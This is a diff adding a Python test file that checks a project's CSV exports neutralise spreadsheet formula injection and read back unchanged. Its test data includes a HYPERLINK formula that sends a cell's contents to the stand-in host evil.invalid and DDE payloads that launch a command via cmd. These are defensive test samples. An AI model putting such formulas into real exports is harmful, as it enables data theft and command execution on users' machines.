@@ -1,0 +1,109 @@
+"""CSV exports: nothing in them runs in a spreadsheet, and all of them can be read back."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from dispatch_core.asset_list import AssetRow, read_asset_csv
+from dispatch_core.find import MatchRow
+from dispatch_core.report import assets_text, ledger_text, match_report_text
+from dispatch_core.spreadsheet import csv_file, csv_text, plain_cell, safe_cell
+from dispatch_core.types import DataAsset, Exclusion
+
+ROOT = Path(__file__).resolve().parents[1]
+HYPERLINK = '=HYPERLINK("http://evil.invalid?"&A1,"click")'
+
+
+def cells_of(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        (HYPERLINK, f"'{HYPERLINK}"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\n=1", "'\n=1"),
+        ("\uff1d1", "'\uff1d1"),
+        ("'=1", "''=1"),
+        ("-0.5", "-0.5"),
+        ("+1e-3", "+1e-3"),
+        ("ecephys_1", "ecephys_1"),
+        ("it's", "it's"),
+        ("'quoted'", "'quoted'"),
+        ("", ""),
+    ],
+)
+def test_only_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str, shown: str) -> None:
+    assert safe_cell(text) == shown
+    assert plain_cell(shown) == text
+
+
+@given(st.lists(st.text(alphabet="=+-@'\t\r\n\",;a0\uff0b\x00", max_size=8), min_size=1))
+def test_every_cell_is_read_back_as_it_was_and_none_begins_a_formula(texts: list[str]) -> None:
+    rows = cells_of(csv_text(["name"], ([text, "end"] for text in texts)))[1:]
+
+    assert [plain_cell(row[0]) for row in rows] == texts
+    begins = [row[0] for row in rows if row[0].startswith(("=", "@", "\t", "\r", "\n", "\uff0b"))]
+    assert begins == []
+
+
+def test_the_ledger_is_safe_and_complete() -> None:
+    row = Exclusion("files", "access_denied", "-denied", "@ask", "1", HYPERLINK, "s3://b/=1")
+
+    assert cells_of(ledger_text([row], "ledger.csv")) == [
+        ["stage", "reason", "message", "action", "record_id", "name", "location"],
+        ["files", "access_denied", "'-denied", "'@ask", "1", f"'{HYPERLINK}", "s3://b/=1"],
+    ]
+
+
+def test_the_assets_as_csv_are_a_list_that_finds_them_again() -> None:
+    assets = [
+        DataAsset("r1", HYPERLINK, "s3://b/1", ("co-1",)),
+        DataAsset("=r2", "two", "s3://b/2"),
+    ]
+
+    file = csv_file(assets_text(assets))
+
+    assert cells_of(file.decode("utf-8-sig"))[1] == ["co-1", f"'{HYPERLINK}", "s3://b/1", "r1"]
+    assert read_asset_csv(file) == (AssetRow(2, "co-1"), AssetRow(3, "=r2"))
+
+
+def test_the_match_report_is_a_list_of_the_same_ids() -> None:
+    lines = [
+        MatchRow(AssetRow(2, "=1+1"), "not found", message="+nothing"),
+        MatchRow(AssetRow(3, "co-1"), "matched", "external_links.Code Ocean", "1", "one"),
+    ]
+
+    text = match_report_text(lines)
+
+    assert cells_of(text)[1] == ["2", "'=1+1", "not found", "", "", "'+nothing"]
+    assert read_asset_csv(text) == (AssetRow(2, "=1+1"), AssetRow(3, "co-1"))
+
+
+def test_half_a_surrogate_pair_does_not_stop_a_download() -> None:
+    assert csv_file("\ud800") == b"\xef\xbb\xbf\\ud800"
+
+
+def test_no_other_module_writes_csv() -> None:
+    writing = {
+        path.relative_to(ROOT).as_posix()
+        for folder in ("dispatch_core", "pages")
+        for path in (ROOT / folder).rglob("*.py")
+        for node in ast.walk(ast.parse(path.read_text("utf-8")))
+        if isinstance(node, ast.Attribute)
+        and node.attr in ("writer", "DictWriter", "to_csv", "to_excel")
+    }
+
+    assert writing == {"dispatch_core/spreadsheet.py"}
